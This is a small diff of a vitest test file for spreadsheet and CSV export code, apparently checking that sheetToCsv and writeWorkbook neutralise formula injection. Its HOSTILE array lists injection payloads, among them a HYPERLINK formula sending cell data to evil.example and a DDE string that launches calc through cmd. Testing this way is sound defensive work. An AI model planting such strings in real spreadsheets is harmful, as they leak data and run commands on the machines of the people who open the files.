@@ -1,7 +1,8 @@
 import { PassThrough, Readable } from 'node:stream';
 import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
-import { sheetToCsv, writeWorkbook, type LedgerSheet } from '../../src/features/digest/ledger.ts';
+import type { LedgerSheet } from '../../src/features/digest/ledger.ts';
+import { sheetToCsv, writeWorkbook } from '../../src/features/digest/ledger-files.ts';
 
 // Texts officials type (存在问题) that a spreadsheet would otherwise run as formulas.
 const HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2+3', '\t=1+1', '\r=1+1'];
